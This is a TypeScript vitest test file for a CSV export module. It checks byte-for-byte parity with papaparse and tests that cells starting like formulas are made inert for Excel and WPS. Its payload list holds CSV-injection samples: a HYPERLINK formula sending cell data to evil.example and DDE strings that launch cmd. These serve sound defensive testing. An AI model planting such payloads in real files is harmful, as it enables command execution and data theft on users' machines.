import { describe, expect, it } from 'vitest';
import Papa from 'papaparse';
import { csvCell, inertCell, toCsv } from '../../src/lib/opendata/csv.ts';

/** What the open-data CSV files were written with before `toCsv` was hand-written for speed (issue 8). */
const papa = (rows: Record<string, unknown>[], columns: string[]) =>
	'\uFEFF' +
	Papa.unparse(
		{
			fields: columns,
			data: rows.map((r) =>
				columns.map((c) => {
					const v = r[c];
					if (v === undefined || v === null) return '';
					if (Array.isArray(v)) return v.join('、');
					if (typeof v === 'object') return JSON.stringify(v);
					return String(v);
				}),
			),
		},
		{ newline: '\r\n' },
	) +
	'\r\n';

describe('open-data CSV', () => {
	it('writes the same bytes papaparse wrote, for every kind of awkward cell', () => {
		const awkward = [
			'',
			'plain',
			'含,逗号',
			'含"引号"',
			'"',
			'line\nbreak',
			'cr\rlf',
			' leading',
			'trailing ',
			' ',
			'\uFEFFbom',
			'全角，逗号',
			'a""b',
		];
		const columns = ['id', 'text', 'n', 'list', 'obj', 'none', 'with space '];
		const rows = awkward.map((text, i) => ({
			id: `r${i}`,
			text,
			n: i % 3 ? i * 1.5 : -i,
			list: i % 2 ? ['安全', text] : [],
			obj: i % 4 ? { k: text } : null,
			none: undefined,
			'with space ': text,
		}));
		expect(toCsv(rows, columns)).toBe(papa(rows, columns));
		expect(toCsv([], columns)).toBe(papa([], columns));
		expect(csvCell('a,b')).toBe('"a,b"');
		expect(csvCell('say "hi"')).toBe('"say ""hi"""');
	});
});

describe('open-data CSV opened in Excel or WPS', () => {
	it('makes every text cell that starts like a formula inert with a leading apostrophe', () => {
		const payloads = [
			'=HYPERLINK("https://evil.example/?d="&A1,"点击查看")',
			"+cmd|'/C calc'!A0",
			"-2+3+cmd|' /C calc'!A0",
			"@SUM(1+1)*cmd|' /C calc'!A0",
			'\t=1+1',
			'\r=1+1',
			'=SUM(A1)',
		];
		const csv = toCsv(
			payloads.map((what, i) => ({ id: `r${i}`, what })),
			['id', 'what'],
		);
		expect(csv.split('\r\n')).toEqual([
			'\uFEFFid,what',
			'r0,"\'=HYPERLINK(""https://evil.example/?d=""&A1,""点击查看"")"',
			"r1,'+cmd|'/C calc'!A0",
			"r2,'-2+3+cmd|' /C calc'!A0",
			"r3,'@SUM(1+1)*cmd|' /C calc'!A0",
			"r4,'\t=1+1",
			'r5,"\'\r=1+1"',
			"r6,'=SUM(A1)",
			'',
		]);
	});

	it('keeps numbers as numbers, negatives included (a deduction of −10 points)', () => {
		const csv = toCsv(
			[{ id: 'e1', points: -10, count: 2, score: -0.5, what: '-10', sign: '+3.5' }],
			['id', 'points', 'count', 'score', 'what', 'sign'],
		);
		expect(csv).toBe('\uFEFFid,points,count,score,what,sign\r\ne1,-10,2,-0.5,-10,+3.5\r\n');
	});

	it('checks lists and objects by the text the cell will hold', () => {
		const csv = toCsv(
			[{ kinds: ['=1+1', '安全'], rule: { per: 1 }, ok: ['安全', '=1+1'] }],
			['kinds', 'rule', 'ok'],
		);
		expect(csv).toBe('\uFEFFkinds,rule,ok\r\n\'=1+1、安全,"{""per"":1}",安全、=1+1\r\n');
	});

	it('leaves text that only contains a formula character alone', () => {
		expect(['安全=环保', ' =1', '＝1+1', '', '10-2'].map(inertCell)).toEqual([
			'安全=环保',
			' =1',
			'＝1+1',
			'',
			'10-2',
		]);
	});
});
